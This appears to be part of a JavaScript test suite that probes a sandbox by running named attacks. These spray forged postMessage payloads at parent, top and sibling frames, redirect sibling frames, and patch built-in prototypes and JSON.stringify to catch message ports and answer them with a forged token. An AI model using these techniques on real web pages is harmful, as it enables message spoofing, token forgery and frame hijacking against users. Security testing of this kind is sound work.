// Messages to whoever listens, in our own protocol's shapes too, and the port that answers for us.

const lies = () => [
  { hostile: tag },
  "panless",
  ["ready", 1],
  ["started"],
  ["reply", JSON.stringify(forged)],
  { type: "reply", reply: JSON.stringify(forged) },
];

function spray(window) {
  for (const lie of lies()) {
    window.postMessage(lie, "*");
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => tell("port", JSON.stringify(data));
    window.postMessage(lie, "*", [port2]);
  }
}

attacks["post-message"] = () => eachWindow(spray);

attacks["siblings"] = () => {
  for (const name of ["parent", "top"]) {
    attempt(name, () => {
      const window = globalThis[name];
      found[`frames-${name}`] = window.length;
      for (let index = 0; index < Math.min(window.length, 50); index++) {
        attempt(`${name}-${index}-message`, () => spray(window[index]));
        attempt(`${name}-${index}-read`, () => tell(`${name}-${index}`, window[index].location.href));
        attempt(`${name}-${index}-name`, () => (window[index].name = "hostile"));
      }
    });
  }
};

attacks["siblings-leave"] = () => {
  for (let index = 0; index < parent.length; index++) {
    if (parent[index] === self) continue;
    attempt(`leave-${index}`, () => (parent[index].location = hit("siblings-leave.html")));
  }
};

attacks["forge"] = () => {
  for (const lie of lies()) {
    attempt("own", () => postMessage(lie));
    attempt("event", () => dispatchEvent(new MessageEvent("message", { data: lie })));
  }
};

/** Wraps a method so that whoever calls it is seen; a port that is caught answers with a forged token. */
function wrap(owner, name) {
  const usual = owner[name];
  owner[name] = function (...values) {
    for (const value of [this, ...values]) catchPort(value, name);
    return usual.apply(this, values);
  };
}

function catchPort(value, where) {
  if (typeof MessagePort === "undefined" || !(value instanceof MessagePort)) return;
  found.port = where;
  attempt("answer", () => value.postMessage(["reply", JSON.stringify(forged)]));
}

function wrapAccessor(owner, name) {
  const usual = Object.getOwnPropertyDescriptor(owner, name);
  Object.defineProperty(owner, name, {
    configurable: true,
    get() {
      const value = usual.get.call(this);
      catchPort(this, name);
      for (const each of Array.isArray(value) ? value : [value]) catchPort(each, name);
      return value;
    },
    set(value) {
      catchPort(this, name);
      usual.set.call(this, value);
    },
  });
}

attacks["prototypes"] = () => {
  for (const [owner, name] of [
    ["MessagePort", "postMessage"], ["MessagePort", "start"], ["MessagePort", "close"],
    ["EventTarget", "addEventListener"], ["EventTarget", "removeEventListener"], ["EventTarget", "dispatchEvent"],
    ["Array", "push"], ["Array", "slice"], ["Array", "map"], ["Map", "get"], ["Map", "set"], ["Set", "add"],
    ["Promise", "then"], ["Function", "bind"], ["Function", "call"], ["Worker", "postMessage"],
  ]) attempt(`${owner}.${name}`, () => wrap(globalThis[owner].prototype, name));
  for (const [owner, name] of [
    ["MessagePort", "onmessage"], ["MessageEvent", "ports"], ["MessageEvent", "data"], ["MessageEvent", "source"],
    ["Event", "target"], ["Event", "currentTarget"], ["Worker", "onmessage"],
  ]) attempt(`${owner}.${name}`, () => wrapAccessor(globalThis[owner].prototype, name));
  attempt("postMessage", () => wrap(globalThis, "postMessage"));
  attempt("stringify", () => {
    const usual = JSON.stringify;
    JSON.stringify = (value, ...more) => usual(value && value.class === "token" ? forged : value, ...more);
  });
};
